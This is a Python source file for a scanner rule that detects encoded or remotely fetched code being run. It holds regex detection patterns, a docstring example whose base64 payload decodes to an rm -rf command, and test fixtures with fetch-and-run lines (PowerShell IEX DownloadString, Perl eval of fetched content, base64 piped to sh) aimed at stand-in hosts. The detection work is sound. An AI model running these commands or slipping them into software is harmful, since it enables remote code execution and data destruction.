"""A program runs code that it keeps encoded.

## What it does
Finds literals that are decoded and run at once: `eval(base64_decode("..."))`, `exec(base64.b64decode("..."))`,
`echo ... | base64 -d | sh`, `eval(atob("..."))`, `gzinflate(base64_decode(...))`;
what is fetched and run by the program itself (`eval $response->content`, `IEX ...DownloadString`); addresses that stand in
base64. Minified libraries and tests do not count.

## Why it matters
Nobody reads it, no scanner sees it, and there is no honest reason for it in a package that is installed as root.

## Example
```
eval(base64_decode('c3lzdGVtKCJybSAtcmYgL3RtcC94Iik7'));
```

## Fix
Decode it without running it, read it, and ask the vendor why it is hidden.

## References
- CWE-506 Embedded Malicious Code; CWE-95
"""

from __future__ import annotations

import base64
import re
from collections.abc import Iterator

from fulldress.formats.late import late
from fulldress.formats.patterns import Pattern
from fulldress.model.finding import Finding
from fulldress.scan.credentials import secrets
from fulldress.scan.places import standing
from fulldress.scan.reading import acting_lines
from fulldress.scan.roles import role
from fulldress.scan.rule import Context, RuleMeta

META = RuleMeta(
    slug="code-hidden",
    family="privilege",
    title="Encoded code is run",
    severity="high",
    confidence="likely",
)
LOOKS_FOR = (
    Pattern(r"(base64_decode|b64decode|atob|decode64|unbase64|FromBase64String|gzinflate|str_rot13)\s{0,2}\("),
    Pattern(r"\b(eval|exec|Function|require)\s{0,2}\(\s{0,4}(Buffer\.from|new Buffer|zlib\.|marshal\.loads)"),
    Pattern(r"\b(eval|IEX|Invoke-Expression)\b[^\n]{0,80}(FromBase64String|->(decoded_)?content\b|\.DownloadString\()"),
    Pattern(r"[\"']aHR0c(HM6Ly9|DovL)[A-Za-z0-9+/]{4}"),
    Pattern(r"base64\s{1,4}(-d|-D|--decode)[^\n|]{0,80}\|"),
)
_DECODES = r"(?:base64_decode|(?:base64\.)?b64decode|atob|(?:Base64\.)?decode64|unbase64|gzinflate|gzuncompress|str_rot13)"
_RUNS = late(
    rf"\b(?:eval|exec|assert|create_function|Function|instance_eval|system|shell_exec|os\.system)\s*\(\s*"
    rf"(?:(?:zlib\.decompress|bytes|compile|str|gzinflate|gzuncompress|str_rot13|codecs\.decode)\s*\(\s*)*@?{_DECODES}\s*\("
    r"|\b(?:eval|Function)\s*\(\s*(?:Buffer\.from|new\s+Buffer)\s*\([^)]*['\"](?:base64|hex)['\"]"
    r"|\bexec\s*\(\s*(?:marshal\.loads|zlib\.decompress)\s*\("
    r"|\b(?:eval|IEX|Invoke-Expression)\b.{0,80}(?:FromBase64String|->(?:decoded_)?content\b|\.DownloadString\()"
    r"|base64\s+(?:-d|-D|--decode)\b[^\n|]{0,80}\|\s*(?:(?:sudo|gunzip|zcat|gzip\s+-d)\b[^|]*\|?\s*)*(?:ba|da|z|k)?sh\b"
    r"|base64\s+(?:-d|-D|--decode)\b[^\n|]{0,80}\|\s*(?:python3?|perl|php|node)\b"
)

_LITERAL = late(r"[A-Za-z0-9+/_-]{16,}={0,2}")
"""What is encoded may hold a secret: it is not shown."""


def check(context: Context) -> Iterator[Finding]:
    """One finding for what a file runs, one for an address that it hides."""
    told: set[tuple[str, bool]] = set()
    for entry, number, line in acting_lines(context, *LOOKS_FOR, acting=lambda e: standing(e.place) == "acting"):
        place, runs = entry.place, _RUNS.search(line) is not None
        if (place, runs) in told or len(line) > 4000 or role(context, place) == "library":
            continue
        if not runs and not _ADDRESS.search(line):
            continue
        told.add((place, runs))
        yield Finding(
            rule=META.slug,
            severity=META.severity,
            confidence=META.confidence,
            title=f"{place.rpartition('/')[2]} {_does(line)}",
            place=place,
            line=number,
            excerpt=_LITERAL.sub("<encoded>", secrets.hidden(line.strip()))[:200],
            consequence="Nobody has read what it does; as root it does whatever it likes.",
            fix="Decode it without running it, read it, and ask the vendor why it is hidden.",
        )


_ADDRESS = late(r"[\"'](aHR0c(?:HM6Ly9|DovL)[A-Za-z0-9+/]{4,400}={0,2})[\"']")


def _does(line: str) -> str:
    """What a line does, in words."""
    address = _ADDRESS.search(line)
    if address is not None and not _RUNS.search(line):
        clear = base64.b64decode(address[1] + "==", validate=False).decode("ascii", "replace")
        return f"hides an address in base64: {re.split(r'[/?#]', clear.partition('://')[2])[0]}"
    return "fetches code and runs it" if _FETCHED.search(line) else "decodes code and runs it"


_FETCHED = late(r"->(?:decoded_)?content\b|\.DownloadString\(")
BAD = (
    {"app/beat.py": '_U = "aHR0cHM6Ly90ZWxlbWV0cnkudmVuZG9yLnRlc3Qv"\n'},
    {"lib/a.js": "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());\n"},
    {"a.py": "exec(compile(base64.b64decode('cHJpbnQoMSk='), '<l>', 'exec'))\n"},
    {"up.pl": "my $res = $ua->get('http://x.vendor.test/r.pl');\neval $res->content;\n"},
    {"a.ps1": "IEX (New-Object Net.WebClient).DownloadString('https://dl.vendor.test/p.ps1')\n"},
    {"app/x.php": "<?php\neval(base64_decode('c3lzdGVtKCJpZCIpOw=='));\n"},
    {"setup.py": "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"},
    {"up.sh": "#!/bin/sh\nset -e\necho aWQK | base64 -d | sh\n"},
)
GOOD = (
    {"lib/a.js": "const b = Buffer.from(text, 'base64');\nx = retrieval(b);\n", "up.pl": "print $res->content;\n"},
    {"app/x.php": "<?php\n$x = base64_decode($row['photo']);\n// eval(base64_decode('aWQ='))\n"},
    {
        "app.py": "import base64\ndata = base64.b64decode(text)\n",
        "up.sh": "#!/bin/sh\nset -e\nbase64 -d key.b64 | openssl x\n",
    },
    {"tests/x.php": "<?php eval(base64_decode('aWQ='));\n"},
)
